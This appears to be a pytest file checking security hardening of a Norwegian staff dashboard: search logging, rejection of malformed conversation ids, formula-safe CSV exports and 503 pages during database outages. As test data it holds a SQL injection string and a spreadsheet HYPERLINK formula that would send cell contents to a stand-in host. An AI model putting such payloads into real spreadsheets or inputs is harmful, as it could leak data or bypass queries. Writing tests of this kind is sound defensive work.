"""Staff hardening (issue 11) over HTTP against real SQLite files and PostgreSQL: every content
search is logged whatever the address adds, a malformed conversation id is a 404 before any
query, exports are safe to open in a spreadsheet, and a database that is down gives a kind
Norwegian 503 page (the login too) instead of a 500."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path
from typing import Any, Iterator

import pytest
from sqlalchemy import create_engine, event, text
from sqlalchemy.engine import Engine, make_url
from starlette.testclient import TestClient

from bot.channels.context import ChannelContext
from bot.staff.dashboard.conversations import REASONS
from fhb.db import staff as staff_db
from fhb.db.engine import SqlAlchemyUnitOfWork, get_engine
from fhb.db.migrate import upgrade
from fhb.profile import Profile
from tests.support.clock import clock, frozen_uow
from tests.support.records import CONV, OTHER, tracker_with_events
from tests.support.staff import (
    access_rows,
    add_staff,
    client_for,
    csrf,
    dashboard_app,
    log_in,
    staff_context,
)

UNAVAILABLE = "Ansattsidene er ikke tilgjengelige akkurat nå"


def dead_database(kind: str, tmp_path: Path) -> str:
    """A database URL nothing answers at: a SQLite file in a folder that does not exist, or
    a PostgreSQL port nobody listens on (what a stopped server looks like)."""
    if kind == "sqlite":
        return f"sqlite:///{tmp_path / 'missing' / 'fhb.db'}"
    return "postgresql://postgres@127.0.0.1:1/fhb"


@pytest.fixture
def ctx(db_url: str, tmp_path: Path, profile: Profile) -> ChannelContext:
    """The dashboard's context on a visit database with `ada` and `vera` and a tracker store
    with CONV and OTHER."""
    tracker = f"sqlite:///{tmp_path / 'tracker.db'}"
    tracker_with_events(tracker)
    add_staff(db_url)
    return staff_context(db_url, profile, tracker_url=tracker)


@pytest.fixture
def board(ctx: ChannelContext) -> Iterator[TestClient]:
    """A browser on the dashboard."""
    with client_for(dashboard_app(ctx)) as client:
        yield client


# --- every content search is logged -----------------------------------------------------------


SEARCHES: list[Any] = [
    {"sok": "ødegård"},
    {"sok": "ødegård", "del": "rader"},  # the list's partial refresh skipped the log before
    {"sok": "ødegård", "del": "noe-annet"},
    {"sok": "ødegård", "side": "2", "flagg": "person"},
    [("sok", "ødegård"), ("del", "rader"), ("del", "rader")],
    {"sok": "  Per   Hansen ", "intent": "book_visit", "fra": "2026-11-01"},
]


def test_every_content_search_is_logged_whatever_the_address_adds(
    board: TestClient, db_url: str
) -> None:
    log_in(board, "vera")
    for params in SEARCHES:
        assert board.get("/staff/", params=params).status_code == 200
    assert board.get("/staff/", params={"sok": OTHER[:8], "del": "rader"}).status_code == 200
    rows = [(r.username, r.action, r.target) for r in access_rows(db_url)]
    assert rows == [("vera", "search", "søk: ødegård")] * 5 + [
        ("vera", "search", "søk: Per Hansen")
    ]  # the id search reads no content and is not logged


def test_a_content_search_is_not_refreshed_by_the_page(board: TestClient) -> None:
    """The list refreshes itself every 10 s; with a logged search it does not (each refresh
    would be another search)."""
    log_in(board, "vera")
    assert "data-refresh" in board.get("/staff/").text
    assert "data-refresh" in board.get("/staff/", params={"sok": OTHER[:8]}).text
    assert "data-refresh" not in board.get("/staff/", params={"sok": "ødegård"}).text


# --- conversation ids in addresses ------------------------------------------------------------


BAD_IDS = [
    "web-" + "a" * 39,
    CONV + "a",
    CONV.upper(),
    "xx-" + "a" * 40,
    "web-" + "g" * 40,
    "' OR 1=1 --",
    "web-%",
    "a" * 5000,
]


@pytest.fixture
def statements() -> Iterator[list[str]]:
    """Every SQL statement any engine runs while the test records."""
    seen: list[str] = []

    def record(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        seen.append(statement)

    event.listen(Engine, "before_cursor_execute", record)
    yield seen
    event.remove(Engine, "before_cursor_execute", record)


@pytest.mark.parametrize("bad", BAD_IDS)
def test_a_malformed_conversation_id_is_a_404_before_any_query(
    board: TestClient, db_url: str, statements: list[str], bad: str
) -> None:
    log_in(board, "vera")
    token = csrf(board, "/staff/")
    statements.clear()
    for method, path, data in [
        ("GET", f"/staff/samtaler/{bad}", None),
        ("POST", f"/staff/samtaler/{bad}", {"csrf": token, "reason": REASONS[0]}),
        ("POST", f"/staff/samtaler/{bad}/gjennomgatt", {"csrf": token}),
    ]:
        response = board.request(method, path, data=data)
        assert response.status_code == 404, path
        assert "Fant ingen samtale med den adressen." in response.text
    # Only the session look-ups ran: nothing asked the visit database or the tracker store
    # about the conversation.
    assert statements and all("staff_sessions" in s for s in statements)
    assert access_rows(db_url) == []


def test_a_well_formed_id_still_opens(board: TestClient) -> None:
    log_in(board, "vera")
    assert board.get(f"/staff/samtaler/{CONV}").status_code == 200


# --- exports safe to open in a spreadsheet ----------------------------------------------------


DANGEROUS = ['=HYPERLINK("http://x.test/?"&A1;"Klikk")', "+47 22 33 44 55", "-1+1", "@SUM(A1)"]


def test_the_access_log_export_neutralises_formulas(board: TestClient, db_url: str) -> None:
    with frozen_uow(db_url) as session:
        for target in [*DANGEROUS, "\tx", "\rx"]:
            staff_db.log_access(session, username="ada", action="search", target=target)
        staff_db.log_access(session, username="ada", action="x", target="t", reason="=1+1")
    log_in(board, "ada")
    export = board.post("/staff/tilgangslogg.csv", data={"csrf": csrf(board, "/staff/")})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    assert [r[4] for r in rows[1:7]] == ["'" + t for t in [*DANGEROUS, "\tx", "\rx"]]
    assert rows[7][4:] == ["t", "'=1+1"]
    assert rows[8][3:5] == ["export", "tilgangslogg.csv"]  # ordinary cells are as they were


# --- a database that is down ------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_login_with_the_database_down_is_a_kind_503(
    kind: str, tmp_path: Path, profile: Profile
) -> None:
    dead = dead_database(kind, tmp_path)
    ctx = staff_context(dead, profile, tracker_url=dead)
    with client_for(dashboard_app(ctx)) as client:
        assert client.get("/staff/login").status_code == 200  # the form needs no database
        response = log_in(client, "ada")
    assert response.status_code == 503
    assert UNAVAILABLE in response.text and "Vi får ikke kontakt med databasen" in response.text
    assert "Det du sendte, ble kanskje ikke lagret" in response.text
    assert response.headers["retry-after"] == "30"
    assert "content-security-policy" in response.headers
    assert "Error" not in response.text and "Traceback" not in response.text


def test_pages_while_the_database_is_down_and_after(
    ctx: ChannelContext, board: TestClient, db_url: str, tmp_path: Path
) -> None:
    log_in(board, "ada")
    token = csrf(board, "/staff/")
    working = ctx.uow_factory
    dead = dead_database("sqlite", tmp_path)
    ctx.uow_factory = lambda: SqlAlchemyUnitOfWork(dead, clock=clock)
    for method, path in [("GET", "/staff/"), ("GET", "/staff/tilgangslogg")]:
        response = board.request(method, path, follow_redirects=False)
        assert response.status_code == 503 and UNAVAILABLE in response.text, path
        assert 'href="">Prøv igjen' in response.text
    posted = board.post(f"/staff/samtaler/{CONV}", data={"csrf": token, "reason": REASONS[0]})
    assert posted.status_code == 503 and "ble kanskje ikke lagret" in posted.text
    ctx.uow_factory = working
    assert board.get("/staff/", follow_redirects=False).status_code == 200  # still logged in


def test_a_tracker_store_that_is_down_gives_503_and_logs_nothing(
    ctx: ChannelContext, board: TestClient, db_url: str, tmp_path: Path
) -> None:
    log_in(board, "vera")
    token = csrf(board, "/staff/")
    ctx.settings = dataclasses.replace(ctx.settings, tracker_url=dead_database("sqlite", tmp_path))
    assert board.get("/staff/").status_code == 503  # the list reads the tracker store too
    posted = board.post(f"/staff/samtaler/{CONV}", data={"csrf": token, "reason": REASONS[0]})
    assert posted.status_code == 503 and UNAVAILABLE in posted.text
    assert access_rows(db_url) == []  # the log row went with the failed transaction


@pytest.mark.postgres
def test_postgresql_refusing_connections_gives_503_then_recovers(
    pg_url: str, tmp_path: Path, profile: Profile
) -> None:
    """PostgreSQL up but refusing connections to the database (ALLOW_CONNECTIONS false,
    open connections ended), on a database of its own so other tests are not disturbed."""
    admin = create_engine(pg_url, future=True, isolation_level="AUTOCOMMIT")
    base = make_url(pg_url)
    name = f"{base.database}_staff_down"
    url = base.set(database=name).render_as_string(hide_password=False)
    with admin.connect() as db:
        db.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        db.execute(text(f'CREATE DATABASE "{name}"'))
    try:
        upgrade(url)
        add_staff(url)
        ctx = staff_context(url, profile, tracker_url=f"sqlite:///{tmp_path / 't.db'}")
        with client_for(dashboard_app(ctx)) as client:
            assert log_in(client, "ada").status_code == 303
            with admin.connect() as db:
                db.execute(text(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS false'))
                db.execute(
                    text(
                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = :n"
                    ),
                    {"n": name},
                )
            page = client.get("/staff/", follow_redirects=False)
            assert page.status_code == 503 and UNAVAILABLE in page.text
            with client_for(dashboard_app(ctx)) as other:
                assert log_in(other, "vera").status_code == 503
            with admin.connect() as db:
                db.execute(text(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS true'))
            assert client.get("/staff/", follow_redirects=False).status_code == 200
    finally:
        get_engine(url).dispose()
        with admin.connect() as db:
            db.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()
